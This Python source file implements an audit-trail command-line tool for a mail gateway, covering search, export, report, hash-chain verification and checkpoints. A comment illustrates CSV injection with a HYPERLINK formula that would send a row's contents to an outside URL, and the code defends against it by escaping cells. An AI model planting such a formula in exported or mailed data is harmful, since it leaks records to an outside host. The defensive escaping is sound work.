"""`gateway audit search|show|verify|export|report|purge|checkpoint`: the
auditors' commands.

Times on the command line are dates (`2026-01-31`), date-times
(`2026-01-31T14:00`, UTC unless an offset is given) or ages (`30d`, `12w`:
that long ago).  `--since` is inclusive; `--until` is exclusive, except that
a bare date includes that whole day.  Output times are UTC ISO 8601.
Exit codes: 0 done, 1 a problem (verification failed, record not found),
2 arguments that cannot all hold (a period ending before it starts, an
event both required and excluded).

Every reader gives the same account of a record: its events with their
detail (who confirmed, where a password went, the approver's note), who
authorised it (`authorised_by`: the approver once approved, no one once
refused nor while a held message awaits its approver; `authorised_by_stated`
what the message said) and what the approver decided (`outcome`,
`decided_by`: gateway.audit.query.decision).

Exit 2 too for an option given twice: only `--event` (and `verify
--anchor`) may be repeated; any other filter repeated was the last one
only, silently.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import re
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from enum import StrEnum
from pathlib import Path
from typing import Any, Protocol, TextIO

from sqlalchemy.exc import DBAPIError
from sqlalchemy.ext.asyncio import AsyncEngine

from gateway.audit import (
    AuditKeys,
    AuditQuery,
    AuditTrail,
    EventFilter,
    EventType,
    PurgeResult,
    SearchFilter,
    VerifyReport,
    purge,
    verify,
    visible,
)
from gateway.audit.query import (
    SOME_NEVER,
    awaiting_approval,
    recipient_identity,
    recipient_outcomes,
)
from gateway.audit.verify import DEFAULT_WORKERS, Anchor, damaged_records, parse_anchor
from gateway.cli.common import (
    add_config,
    at_least_one,
    open_database,
    run_async,
    settings_or_exit,
)
from gateway.errors import ConfigError, GatewayError, StoreError
from gateway.model import InformationType, ReasonCode
from gateway.operate.retention import remove_finished
from gateway.settings import Settings, parse_duration

# The record document's keys in DESIGN.md order (`queue_id` is kept in the
# stored document but is not part of the auditors' contract).
RECORD_KEYS = ("id", "message_id", "received_at", "sender", "recipients", "subject", "purpose",
               "consent", "authorised_by", "information_types", "marking", "verdict", "reasons",
               "method", "attachments", "events")
VERDICTS = ("deliver", "protect", "reject", "hold")
# `--receipts`: messages the gateway asked receipts for, or not (the console's too).
RECEIPTS = {"requested": True, "not_requested": False}
# Beside the DESIGN.md keys, in JSON output and at the end of each CSV row.
DECISION_KEYS = ("authorised_by_stated", "outcome", "decided_by")
# verify's helpers plus its own connection must fit the engine's pool (10 + 10).
_MAX_VERIFY_WORKERS = 16
CSV_COLUMNS = ("id", "message_id", "received_at", "sender", "recipient_addresses",
               "recipient_names", "recipient_job_titles", "recipient_departments",
               "recipient_organisations", "recipient_telephones", "subject", "purpose", "consent",
               "authorised_by", "information_types", "marking", "verdict", "reasons", "method",
               "attachments", "events", *DECISION_KEYS, "event_details",
               # Added last (columns are never reordered): per recipient, in
               # the order of recipient_addresses (gateway.audit.query.
               # recipient_outcomes).
               "recipient_outcomes",
               # The allow-list row each recipient's identity comes from
               # (its address, or "@domain"; empty: not listed, or a record
               # written before the gateway kept it).
               "recipient_listed_as",
               # What of the record is not as the gateway wrote it (JSON's
               # `damaged`: "record", "document", "search index" ...);
               # empty when it is sound.
               "damaged")


def register(commands: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
    audit = commands.add_parser("audit", help="query, export and verify the audit trail")
    actions = audit.add_subparsers(dest="audit_command", metavar="ACTION", required=True)

    search = actions.add_parser("search", help="records matching every filter, newest first")
    add_config(search)
    _add_period(search)
    # Every filter but --event is given once: repeated, argparse kept the
    # last silently, and a count missing the others could go to the ICO.
    search.add_argument("--sender", action=_Once,
                        help="sender address (case-insensitive; * wildcard)")
    search.add_argument("--recipient", action=_Once,
                        help="recipient address (case-insensitive; * wildcard, e.g. '*@nhs.net')")
    search.add_argument("--organisation", action=_Once,
                        help="recipient organisation as the allow-list names it "
                        "(case-insensitive; * wildcard, e.g. '*Constabulary*' for every "
                        "organisation whose name contains it)")
    search.add_argument("--type", dest="information_type", metavar="TYPE", action=_Once,
                        type=known_value("type", InformationType),
                        help="information type, e.g. uk_nhs_number (* wildcard)")
    search.add_argument("--marking", action=_Once,
                        help="protective marking, e.g. OFFICIAL-SENSITIVE")
    search.add_argument("--verdict", choices=VERDICTS, action=_Once,
                        help="reject also finds held messages the approver refused")
    search.add_argument("--reason", type=known_value("reason", ReasonCode), action=_Once,
                        help="reason code, e.g. unencrypted_attachment (* wildcard)")
    search.add_argument("--purpose", action=_Once, help="text the stated purpose contains")
    search.add_argument("--authorised-by", action=_Once, metavar="NAME",
                        help="text the name of who authorised it contains: a held "
                        "message's approver, else who the message said; a message "
                        "refused, or held and not yet approved, was authorised by no one")
    search.add_argument("--receipts", choices=list(RECEIPTS), action=_Once,
                        help="messages the gateway asked delivery/read receipts for, or not")
    search.add_argument("--event", action="append", default=[], type=_event_filter,
                        metavar=f"has:TYPE|never:TYPE|{SOME_NEVER}:TYPE",
                        help="records with (has:) or without (never:) an event: with "
                        "--recipient, that recipient's; without, any recipient's, so "
                        "never:delivery_confirmed is mail no recipient confirmed (a read "
                        f"receipt is not a delivery confirmation). {SOME_NEVER}:TYPE: "
                        "mail relayed to some recipient who had no such event, e.g. "
                        f"{SOME_NEVER}:delivery_confirmed (never sent mail is not). "
                        "Repeatable")
    search.add_argument("--limit", type=at_least_one, default=100, action=_Once,
                        help="at most this many (default 100)")
    search.add_argument("--format", choices=["table", "json", "csv"], default="table",
                        action=_Once)
    search.set_defaults(handler=_search)

    show = actions.add_parser("show", help="one record with its timeline")
    add_config(show)
    show.add_argument("id")
    show.add_argument("--format", choices=["text", "json"], default="text")
    show.set_defaults(handler=_show)

    check = actions.add_parser("verify", help="recompute the hash chain; exit 1 on tampering")
    add_config(check)
    check.add_argument("--max-problems", type=at_least_one, default=20)
    check.add_argument("--workers", type=_verify_workers, default=DEFAULT_WORKERS, metavar="N",
                       help="PostgreSQL: connections that recompute the chain at once, about "
                       f"one per database core (default {DEFAULT_WORKERS}, at most "
                       f"{_MAX_VERIFY_WORKERS})")
    check.add_argument("--anchor", type=_anchor, action="append", default=[],
                       metavar="SEQ:HASH",
                       help="a chain position kept outside the database (`audit checkpoint`'s "
                       "anchor, an `audit_anchor` log line): the trail must still hold it; "
                       "repeatable")
    check.set_defaults(handler=_verify)

    export = actions.add_parser("export", help="every record, oldest first (progress on stderr)")
    add_config(export)
    export.add_argument("--format", choices=["jsonl", "csv"], default="jsonl")
    export.add_argument("--output", metavar="FILE", help="write here instead of stdout")
    export.add_argument("--no-progress", action="store_true")
    export.set_defaults(handler=_export)

    report = actions.add_parser("report", help="counts by verdict, reason, type, organisation, "
                                "sender")
    add_config(report)
    _add_period(report)
    report.add_argument("--verdict", choices=VERDICTS, action=_Once,
                        help="only the records of this verdict (reject also counts held "
                        "messages the approver refused)")
    report.add_argument("--top", type=at_least_one, default=20, action=_Once,
                        help="rows per table (default 20)")
    report.add_argument("--format", choices=["table", "json"], default="table", action=_Once)
    report.set_defaults(handler=_report)

    remove = actions.add_parser(
        "purge", help="remove records older than [audit] retention, and the finished messages'"
        " other rows (verifies the trail first)")
    add_config(remove)
    remove.add_argument("--dry-run", action="store_true", help="only say what would go")
    remove.add_argument("--force", action="store_true",
                        help="purge even when the trail does not verify (audited as forced)")
    remove.set_defaults(handler=_purge)

    point = actions.add_parser("checkpoint", help="write a signed checkpoint at the head now")
    add_config(point)
    point.set_defaults(handler=_checkpoint)


# -- argument types ---------------------------------------------------------------


def parse_when(value: str, end: bool = False) -> datetime:
    """A date, date-time or age as a UTC datetime (see the module docstring).

    A time the calendar cannot hold (before year 1, after 9999: an age of a
    million years, the day after 9999-12-31, an offset across either end)
    is a bad argument like any other, never an OverflowError."""
    try:
        return _when(value, end)
    except OverflowError:
        raise argparse.ArgumentTypeError(
            f"{value!r} is out of range (the calendar runs from year 1 to 9999)") from None


def _when(value: str, end: bool) -> datetime:
    text = value.strip()
    try:
        age = parse_duration(text)
    except ValueError as exc:
        if isinstance(exc.__cause__, OverflowError):  # an age longer than timedelta's
            raise OverflowError(text) from None
    else:
        return datetime.now(UTC) - age
    try:
        day = date.fromisoformat(text)
    except ValueError:
        pass
    else:
        start = datetime(day.year, day.month, day.day, tzinfo=UTC)
        return start + timedelta(days=1) if end else start
    try:
        moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"{value!r}: use a date (2026-01-31), a date-time (2026-01-31T14:00) or an age (30d)"
        ) from None
    return moment.replace(tzinfo=UTC) if moment.tzinfo is None else moment.astimezone(UTC)


def _since(value: str) -> datetime:
    return parse_when(value)


def _until(value: str) -> datetime:
    return parse_when(value, end=True)


def _event_filter(value: str) -> EventFilter:
    try:
        found = EventFilter.parse(value)
    except ValueError as exc:
        raise argparse.ArgumentTypeError(str(exc)) from None
    if found.type not in {t.value for t in EventType}:
        known = ", ".join(t.value for t in EventType)
        raise argparse.ArgumentTypeError(f"unknown event type {found.type!r} (one of: {known})")
    return found


def known_value(name: str, values: type[StrEnum]) -> Callable[[str], str]:
    """An argument type taking `values`' members, in any case (searches match
    them so), or a `*` pattern matching one: a mistyped one found nothing
    and said "0 record(s)".  Records hold only members: no value has
    been taken out of either enumeration (gateway.model) since the first
    record was written; one that is must stay searchable here."""
    known = [v.value for v in values]

    def parse(text: str) -> str:
        wanted = text.strip().casefold()
        pattern = re.compile(".*".join(re.escape(part) for part in wanted.split("*")))
        if not any(pattern.fullmatch(value) for value in known):
            raise argparse.ArgumentTypeError(
                f"unknown {name} {text!r} (one of: {', '.join(known)})")
        return text

    return parse


def _verify_workers(value: str) -> int:
    try:
        workers = int(value)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not a number: {value!r}") from None
    if not 1 <= workers <= _MAX_VERIFY_WORKERS:
        raise argparse.ArgumentTypeError(f"between 1 and {_MAX_VERIFY_WORKERS}")
    return workers


def _anchor(value: str) -> Anchor:
    try:
        return parse_anchor(value)
    except ValueError as exc:
        raise argparse.ArgumentTypeError(str(exc)) from None


def _add_period(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--since", type=_since, metavar="WHEN", action=_Once,
                        help="from this date/time (inclusive), or an age such as 90d; "
                             "in UTC unless an offset is given (2026-04-01T00:00+01:00)")
    parser.add_argument("--until", type=_until, metavar="WHEN", action=_Once,
                        help="before this date/time; a bare date includes that (UTC) day")


class _Once(argparse.Action):
    """An option given at most once: a second is an error (exit 2) naming it."""

    def __call__(self, parser: argparse.ArgumentParser, namespace: argparse.Namespace,
                 values: Any, option_string: str | None = None) -> None:
        seen: set[str] = namespace.__dict__.setdefault("_given_once", set())
        if self.dest in seen:
            parser.error(f"{option_string or self.dest} given twice: give it once "
                         "(every filter must hold; run one search per value)")
        seen.add(self.dest)
        setattr(namespace, self.dest, values)


# -- plumbing -----------------------------------------------------------------------


def _with_engine(settings: Settings, work: Callable[[AsyncEngine], Any]) -> Any:
    async def run() -> Any:
        engine = open_database(settings)
        try:
            return await work(engine)
        finally:
            await engine.dispose()

    return run_async(run)


def _keys(settings: Settings) -> AuditKeys:
    try:
        return AuditKeys.from_settings(settings)
    except ConfigError as exc:
        for problem in exc.problems:
            print(f"error: {problem}", file=sys.stderr)
        raise SystemExit(1) from None


def public(document: dict[str, Any]) -> dict[str, Any]:
    """The DESIGN.md audit record, its keys in order, each event with its
    detail ({at, type, detail}: details hold no personal data from the
    message nor any password), then DECISION_KEYS."""
    out = {key: document.get(key) for key in RECORD_KEYS}
    out["events"] = [{"at": e["at"], "type": e["type"], "detail": e.get("detail")}
                     for e in document.get("events", [])]
    out.update((key, document.get(key)) for key in DECISION_KEYS)
    if document.get("damaged"):
        out["damaged"] = document["damaged"]  # see gateway.audit.query._with_events
    return out


def warn_damaged(damaged: int) -> None:
    """Tell the auditor that records were shown from what could be read."""
    if damaged:
        print(f"warning: {damaged} record(s) shown in part: their stored text is not what the "
              "gateway wrote (edited outside it); `gateway audit verify` names them",
              file=sys.stderr)


# What makes a spreadsheet program read a cell as a formula.  The CSV is
# opened in Excel by the auditors it is for, and its cells hold text that
# came in mail: a subject such as `=HYPERLINK("https://…?"&B2, "Open")`
# would run there, sending the row's contents off (CSV injection, OWASP).
# A telephone number such as "+44 20 7946 0000" read as a formula shows as
# an error.  Such a cell is written with a leading apostrophe; the JSON
# export and the database keep the text as it was.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: str) -> str:
    """`cell` as a spreadsheet program shows it as text, never runs it."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def csv_row(document: dict[str, Any]) -> list[str]:
    """A record's cells under CSV_COLUMNS, each safe to open in a spreadsheet."""
    return [spreadsheet_safe(cell) for cell in _csv_cells(document)]


def _csv_cells(document: dict[str, Any]) -> list[str]:
    recipients = document.get("recipients") or []

    def each(key: str) -> str:
        return "; ".join(str(r.get(key) or "") for r in recipients)

    attachments = "; ".join(
        f"{a.get('filename') or '(unnamed)'} ({a.get('content_type')}, {a.get('encryption')}"
        + (", read-only" if a.get("read_only") else "") + ")"
        for a in document.get("attachments") or []
    )
    return [
        document.get("id") or "", document.get("message_id") or "",
        document.get("received_at") or "", document.get("sender") or "",
        each("address"), each("name"), each("job_title"), each("department"),
        each("organisation"), each("telephone"), document.get("subject") or "",
        document.get("purpose") or "", document.get("consent") or "",
        document.get("authorised_by") or "",
        "; ".join(document.get("information_types") or []), document.get("marking") or "",
        document.get("verdict") or "",
        "; ".join(r.get("code", "") for r in document.get("reasons") or []),
        document.get("method") or "", attachments,
        "; ".join(f"{e['type']}@{e['at']}" for e in document.get("events") or []),
        *(document.get(key) or "" for key in DECISION_KEYS),
        # One cell, so that a record stays one row: the events as JSON.
        json.dumps(public(document)["events"], ensure_ascii=False, sort_keys=True),
        "; ".join(recipient_outcomes(document)),
        each("listed_as"),
        "; ".join(document.get("damaged") or []),
    ]


def _short_time(iso: str | None) -> str:
    return (iso or "")[:16].replace("T", " ")


# -- search / show --------------------------------------------------------------------


def _contradiction(args: argparse.Namespace) -> str | None:
    """Why the arguments can match nothing whatever the trail holds, if so:
    such a search said "0 record(s)", as if the trail had been searched."""
    if args.since is not None and args.until is not None and args.since >= args.until:
        return (f"--since ({args.since.isoformat()}) is not before --until "
                f"({args.until.isoformat()}): the period is empty")
    wanted = {e.type for e in getattr(args, "event", []) if e.present}
    # some-never:X holds beside has:X (one recipient confirmed, another not).
    excluded = {e.type for e in getattr(args, "event", []) if not e.present and not e.each}
    both = sorted(wanted & excluded)
    if both:
        return f"--event has:{both[0]} and --event never:{both[0]} cannot both hold"
    return None


def _refuse_contradiction(args: argparse.Namespace) -> bool:
    problem = _contradiction(args)
    if problem is not None:
        print(f"error: {problem}", file=sys.stderr)
    return problem is not None


def _search(args: argparse.Namespace) -> int:
    if _refuse_contradiction(args):
        return 2
    settings = settings_or_exit(args)
    query_filter = SearchFilter(
        since=args.since, until=args.until, sender=args.sender, recipient=args.recipient,
        organisation=args.organisation, information_type=args.information_type,
        marking=args.marking, verdict=args.verdict, reason=args.reason, purpose=args.purpose,
        authorised_by=args.authorised_by, events=tuple(args.event),
        receipts_requested=RECEIPTS[args.receipts] if args.receipts else None,
    )
    limit = max(0, args.limit)

    async def work(engine: AsyncEngine) -> tuple[list[dict[str, Any]], int, str | None]:
        query = AuditQuery(engine)
        found = await query.search(query_filter, limit)
        # Counted only when the limit may have cut the answer short.
        matching = await query.count_matching(query_filter) if len(found) >= limit else len(found)
        hint = None
        if not found and args.organisation:
            hint = await organisation_hint(query, args.organisation)
        return found, matching, hint

    documents, matching, hint = _with_engine(settings, work)
    if args.format == "json":
        for document in documents:
            print(json.dumps(public(document), ensure_ascii=False))
    elif args.format == "csv":
        writer = csv.writer(sys.stdout)
        writer.writerow(CSV_COLUMNS)
        for document in documents:
            writer.writerow(csv_row(document))
    else:
        _print_table(documents)
    if matching > len(documents):
        # On stderr: json and csv on stdout stay only records.
        print(f"showing {len(documents)} of {matching} matching record(s): "
              f"{matching - len(documents)} more (--limit {matching} to see them all)",
              file=sys.stderr)
    if hint is not None:
        print(hint, file=sys.stderr)
    warn_damaged(sum(1 for d in documents if d.get("damaged")))
    return 0


async def organisation_hint(query: AuditQuery, organisation: str) -> str | None:
    """Why a search by `organisation` found nothing, when no record names it:
    the trail's organisations that contain the text, as the allow-list spells
    them (an auditor types "Constabulary", the list says "Example
    Constabulary"), else those it holds.  None when some record does name
    it (the other filters excluded them).  "0 record(s)" alone read as
    "nothing was sent to them"."""
    if await query.organisation_named(organisation):
        return None
    names, contained = await query.organisations_containing(organisation)
    asked = organisation.strip()
    if contained:
        pattern = "*" + "*".join(p for p in asked.split("*") if p) + "*"
        quoted = ", ".join(f'"{visible(n)}"' for n in names)
        return (f'no record names organisation "{visible(asked)}"; did you mean: {quoted} '
                f"(--organisation '{visible(pattern)}')")
    if not names:
        return f'no record names organisation "{visible(asked)}" (no record names any)'
    return (f'no record names organisation "{visible(asked)}", nor one containing it; the '
            f"organisations records name include: {', '.join(visible(n) for n in names)}")


# The table's cells of a column are at most this wide; REASONS is never cut
# (why a message was refused must show in its row, whatever its length).
_CELL = 40
_ELLIPSIS = "…"


def _cut(text: str, width: int = _CELL) -> str:
    """`text`, ending in "…" when it had to be cut to fit."""
    return text if len(text) <= width else text[:width - 1] + _ELLIPSIS


def _fit_list(items: list[str], width: int = _CELL) -> str:
    """As many whole items as fit, then "+N" for those left out: an address
    or a type is never shown cut without saying so."""
    if not items:
        return "-"
    shown = ", ".join(items)
    if len(shown) <= width:
        return shown
    for keep in range(len(items) - 1, 0, -1):
        text = f"{', '.join(items[:keep])} +{len(items) - keep}"
        if len(text) <= width:
            return text
    more = f" +{len(items) - 1}" if len(items) > 1 else ""
    return _cut(items[0], width - len(more)) + more


def _print_table(documents: list[dict[str, Any]]) -> None:
    header = ["RECEIVED (UTC)", "ID", "VERDICT", "SENDER", "RECIPIENTS", "TYPES", "REASONS",
              "LAST EVENT"]
    rows = [header]
    for d in documents:
        events = d.get("events") or []
        rows.append([
            # A held message's verdict stays `hold`; what the approver made
            # of it is beside it, "hold (refused)", as `--verdict reject` finds it.
            _short_time(d.get("received_at")), visible(d.get("id") or ""),
            visible((d.get("verdict") or "") + (f" ({d['outcome']})" if d.get("outcome") else "")),
            _cut(visible(d.get("sender") or "")),
            _fit_list([visible(r.get("address", "")) for r in d.get("recipients") or []]),
            _fit_list([visible(t) for t in d.get("information_types") or []]),
            ", ".join(visible(r.get("code", "")) for r in d.get("reasons") or []) or "-",
            visible(events[-1]["type"]) if events else "-",
        ])
    widths = [max(len(r[i]) for r in rows) for i in range(len(header) - 1)]
    for row in rows:
        cells = [c.ljust(w) for c, w in zip(row, widths, strict=False)]
        print("  ".join([*cells, row[-1]]).rstrip())
    print(f"{len(documents)} record(s)")


def _show(args: argparse.Namespace) -> int:
    settings = settings_or_exit(args)
    document = _with_engine(settings, lambda engine: AuditQuery(engine).get(args.id))
    if document is None:
        print(f"error: no audit record {args.id}", file=sys.stderr)
        return 1
    if args.format == "json":
        out = public(document)
        out["events"] = document["events"]  # with their detail
        print(json.dumps(out, ensure_ascii=False, indent=2))
    else:
        print(format_record(document))
    warn_damaged(1 if document.get("damaged") else 0)
    return 0


def authorised_text(d: dict[str, Any]) -> str | None:
    """`authorised_by` (the approver, once approved: gateway.audit.query.
    authoriser), saying so, and what the message itself said when that
    differs; once refused, no one, and who refused it."""
    named = d.get("authorised_by")
    stated = d.get("authorised_by_stated")
    outcome = d.get("outcome")
    if outcome == "refused":
        said = f"; the message said {stated}" if stated else ""
        return f"no one (refused by {d.get('decided_by')}{said})"
    if awaiting_approval(d):
        said = f" (the message said {stated})" if stated else ""
        return f"no one yet: awaiting approval{said}"
    if outcome != "approved" and not any(
            e.get("type") == EventType.APPROVED.value for e in d.get("events") or []):
        return named
    if outcome == "approved" and not d.get("decided_by"):
        # The approval's detail no longer reads (an edit: the record is
        # marked damaged): `named` is then what the message said, as the
        # view gives it (migration 0016), never to be read as the approver.
        return (f"{named or '-'} (what the message said; approved by someone whose name "
                "the trail can no longer read)")
    said = f"; the message said {stated}" if stated and stated != named else ""
    return f"{named} (approved{said})"


def method_text(d: dict[str, Any]) -> str | None:
    """How it was shared, as recorded; a held message the approver refused,
    or nobody has decided yet, was not shared at all.  Its record, written
    when it was held, keeps the method it would go by: said as that, never
    as what happened."""
    method = d.get("method")
    if d.get("outcome") == "refused":
        would = f" (it would have gone: {method})" if method else ""
        return f"not sent: refused by {d.get('decided_by')}{would}"
    if awaiting_approval(d):
        would = f" (it would go: {method})" if method else ""
        return f"not sent yet: held for authorisation{would}"
    return method if isinstance(method, str) else None


def format_record(d: dict[str, Any]) -> str:
    lines = [f"Audit record {d.get('id')}"]

    def field(label: str, value: Any) -> None:
        lines.append(f"  {label:<15}{value if value not in (None, '') else '-'}")

    if d.get("damaged"):
        field("DAMAGED", f"{', '.join(d['damaged'])}: not as the gateway wrote it (edited "
                         "outside the gateway)")

    field("received", d.get("received_at"))
    field("message-id", d.get("message_id"))
    field("sender", d.get("sender"))
    field("subject", d.get("subject"))
    field("verdict", d.get("verdict"))
    field("purpose", d.get("purpose"))
    field("consent", d.get("consent"))
    field("authorised by", authorised_text(d))
    field("information", ", ".join(d.get("information_types") or []))
    field("marking", d.get("marking"))
    field("method", method_text(d))
    lines.append("  reasons")
    for reason in d.get("reasons") or []:
        lines.append(f"    {reason.get('code')}: {reason.get('text')}")
    lines.append("  recipients")
    for r in d.get("recipients") or []:
        lines.append(f"    {r.get('address')}  ({recipient_identity(r)})")
    lines.append("  attachments")
    for a in d.get("attachments") or []:
        state = "read-only" if a.get("read_only") else "writable" if a.get("read_only") is False \
            else "read-only unknown"
        lines.append(f"    {a.get('filename') or '(unnamed)'}  {a.get('content_type')}  "
                     f"encryption {a.get('encryption')}  {state}")
    lines.append("Timeline (UTC)")
    for e in d.get("events") or []:
        detail = e.get("detail") or {}
        extra = "  " + json.dumps(detail, ensure_ascii=False, sort_keys=True) if detail else ""
        lines.append(f"  {e['at'][:19].replace('T', ' ')}  {e['type']:<20}{extra}".rstrip())
    return "\n".join(visible(line) for line in lines)


# -- verify / checkpoint ----------------------------------------------------------------


def _verify(args: argparse.Namespace) -> int:
    settings = settings_or_exit(args)
    keys = _keys(settings)
    report: VerifyReport = _with_engine(
        settings, lambda engine: verify(engine, keys, max(1, args.max_problems), args.workers,
                                        args.anchor, settings.audit.checkpoint_every)
    )
    for warning in report.warnings:
        print(f"warning: {warning}", file=sys.stderr)
    if report.ok:
        # Exit 0 either way (only an anchor can show a cut-off end), but the
        # sentence an auditor quotes must not cover rows nothing vouches for.
        print("audit trail verified: no edits, deletions or insertions found"
              + (" (but see the note below)" if report.notes else ""))
    else:
        print("audit trail FAILED verification:")
        for problem, details in report.explained:
            print(f"  {problem}")
            for detail in details:
                print(f"      {detail}")
    for note in report.notes:
        print(f"note: {note}")
    print(report.summary())
    return 0 if report.ok else 1


def _checkpoint(args: argparse.Namespace) -> int:
    settings = settings_or_exit(args)
    trail = AuditTrail(_keys(settings), settings.audit.checkpoint_every)

    async def work(engine: AsyncEngine) -> Any:
        try:
            async with engine.begin() as conn:
                return await trail.write_checkpoint(conn, "manual")
        except DBAPIError as exc:
            # The database answered: it is there, and refused this role
            # (gateway_auditor only reads), as `audit purge` tells it.
            if "permission denied" in str(exc):
                raise StoreError(
                    "audit checkpoint needs a database role allowed to write "
                    "audit_checkpoints (gateway_app or the owner that ran `gateway db "
                    "upgrade`, not gateway_auditor)"
                ) from exc
            raise

    point = _with_engine(settings, work)
    signed = f"signed with key {point.key_id}" if point.signature else "unsigned (no audit key)"
    print(f"checkpoint #{point.id} at seq {point.seq}, hash {point.hash}, {signed}")
    # Kept outside the database, this shows a tail cut off together with
    # the checkpoints after it, which the database's own cannot.
    print(f"anchor: {point.seq}:{point.hash} (keep it elsewhere; "
          f"`gateway audit verify --anchor {point.seq}:{point.hash}` checks it)")
    return 0


# -- export ---------------------------------------------------------------------------------


class Progress:
    """A plain-text progress bar on stderr; a line per 10% when not a terminal."""

    def __init__(self, total: int, stream: TextIO, label: str = "export") -> None:
        self.total = total
        self.stream = stream
        self.label = label
        self.tty = stream.isatty()
        self.done = 0
        self._shown = -1
        self._last = 0.0
        self._started = time.monotonic()

    def advance(self, count: int = 1) -> None:
        self.done += count
        percent = self.done * 100 // self.total if self.total else 100
        now = time.monotonic()
        if self.tty and (percent != self._shown or now - self._last > 0.5):
            self._draw(percent, "\r", "")
        elif not self.tty and percent // 10 != self._shown // 10:
            self._draw(percent, "", "\n")
        else:
            return
        self._shown, self._last = percent, now

    def _draw(self, percent: int, prefix: str, suffix: str) -> None:
        filled = min(30, percent * 30 // 100)
        rate = self.done / max(1e-6, time.monotonic() - self._started)
        self.stream.write(f"{prefix}{self.label} [{'#' * filled}{'.' * (30 - filled)}] "
                          f"{percent:3d}% {self.done}/{self.total} ({rate:,.0f}/s){suffix}")
        self.stream.flush()

    def finish(self) -> None:
        if self.tty:
            self._draw(100 if self.done >= self.total else self._shown, "\r", "\n")
        elif self._shown < 100:
            self._draw(self.done * 100 // self.total if self.total else 100, "", "\n")


def _export(args: argparse.Namespace) -> int:
    settings = settings_or_exit(args)
    # A CSV file is opened in a spreadsheet, and Excel reads one without a
    # byte-order mark in the machine's ANSI code page ("cafÃ©"): the file
    # starts with one.  stdout gets none: what reads a pipe is a program
    # (csv readers, grep), for which the mark is a stray character in the
    # first column's name.
    output = _ExportFile(Path(args.output), byte_order_mark=args.format == "csv") \
        if args.output else None
    if output is not None:
        try:
            output.open()
        except GatewayError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 1

    async def work(engine: AsyncEngine) -> tuple[int, int]:
        query = AuditQuery(engine)
        total = await query.count()
        progress = None if args.no_progress else Progress(total, sys.stderr)
        target: _Writable = output if output is not None else sys.stdout
        writer = csv.writer(target) if args.format == "csv" else None
        if writer is not None:
            writer.writerow(CSV_COLUMNS)
        count = damaged = 0
        async for document in query.export():
            damaged += 1 if document.get("damaged") else 0
            if writer is not None:
                writer.writerow(csv_row(document))
            else:
                target.write(json.dumps(public(document), ensure_ascii=False) + "\n")
            count += 1
            if progress is not None:
                progress.advance()
        if output is not None:
            output.keep()
        if progress is not None:
            progress.finish()
        return count, damaged

    try:
        count, damaged = _with_engine(settings, work)
    finally:
        if output is not None:
            output.discard()
    if args.output:
        print(f"exported {count} record(s) to {args.output}", file=sys.stderr)
    warn_damaged(damaged)
    return 0


class _Writable(Protocol):
    def write(self, text: str, /) -> int: ...


class _ExportFile:
    """`--output FILE`: the export, in full or not at all, readable by its
    owner only.

    It holds the recipients' names, job titles and telephone numbers: made
    with mode 0600 (a new file would otherwise take the umask's 0644, read
    by every account on the server).  Written beside FILE under a hidden
    name and renamed over it once complete, so an export cut short (the
    database gone, Ctrl-C, a full disk) leaves no file that looks like a
    whole one, and keeps the FILE it would have replaced.  A failure to
    write is the command's error (exit 1), not the database's."""

    def __init__(self, path: Path, byte_order_mark: bool = False) -> None:
        self.path = path
        self._encoding = "utf-8-sig" if byte_order_mark else "utf-8"
        self._partial: Path | None = None
        self._file: TextIO | None = None

    def open(self) -> None:
        try:
            fd, name = tempfile.mkstemp(prefix=f".{self.path.name}.", suffix=".partial",
                                        dir=self.path.parent)  # mode 0600
        except OSError as exc:
            raise self._failed(exc) from None
        self._partial = Path(name)
        self._file = os.fdopen(fd, "w", encoding=self._encoding, newline="")

    def write(self, text: str, /) -> int:
        assert self._file is not None
        try:
            return self._file.write(text)
        except OSError as exc:
            raise self._failed(exc) from None

    def keep(self) -> None:
        """The export is complete: FILE becomes it."""
        assert self._file is not None and self._partial is not None
        try:
            self._file.flush()
            os.fsync(self._file.fileno())
            self._file.close()
            os.replace(self._partial, self.path)
        except OSError as exc:
            raise self._failed(exc) from None
        self._partial = None

    def discard(self) -> None:
        """Unless kept, the partial file goes."""
        if self._file is not None:
            with contextlib.suppress(OSError):
                self._file.close()
        if self._partial is not None:
            self._partial.unlink(missing_ok=True)
            self._partial = None

    def _failed(self, exc: OSError) -> GatewayError:
        return GatewayError(f"cannot write {self.path}: {exc.strerror or exc}")


# -- report -----------------------------------------------------------------------------------


_REPORT_TABLES = (("by_verdict", "Verdict"),
                  ("held_outcome", "Held messages: the approver's decision"),
                  # Found in the messages, whatever became of them: most are
                  # ones the gateway protected or held, not refused ones.
                  ("by_reason", "Reasons found (including those the gateway fixed)"),
                  ("by_information_type", "Information type"),
                  ("by_organisation", "Recipient organisation"),
                  ("by_authoriser", "Authorised by"), ("by_sender", "Sender"),
                  ("by_event", "Records with event"))


def _report(args: argparse.Namespace) -> int:
    if _refuse_contradiction(args):
        return 2
    settings = settings_or_exit(args)
    report: dict[str, Any] = _with_engine(
        settings, lambda engine: AuditQuery(engine).report(args.since, args.until, args.verdict)
    )
    if args.format == "json":
        print(json.dumps(report, ensure_ascii=False, indent=2))
    else:
        print(format_report(report, args.top))
    # The figures are counted in SQL, which reads an altered record like any
    # other: say so as `search` does (on stderr: stdout stays the report).
    warn_damaged(_with_engine(
        settings, lambda engine: damaged_records(engine, args.since, args.until)))
    return 0


# Rows counted apart from a table, after its top ones: the table then
# accounts for every record.
_APART = {"by_organisation": ("not_on_allow_list", "(not on the allow-list)"),
          "by_authoriser": ("authorised_by_no_one", "(no one: refused, awaiting approval or unstated)")}


def format_report(report: dict[str, Any], top: int = 20) -> str:
    out = io.StringIO()
    # `until` is the period's exclusive end ("--until 2026-06-30" is the
    # start of 1 July): "before" it, not "to" it, which reads as "up to and
    # including".
    until = f"before {report['until']}" if report["until"] else "to now"
    period = f"from {report['since'] or 'the beginning'} {until} (UTC)"
    scope = f", verdict {report['verdict']}" if report.get("verdict") else ""
    out.write(f"Audit report: {period}{scope}\nRecords: {report['records']}\n")
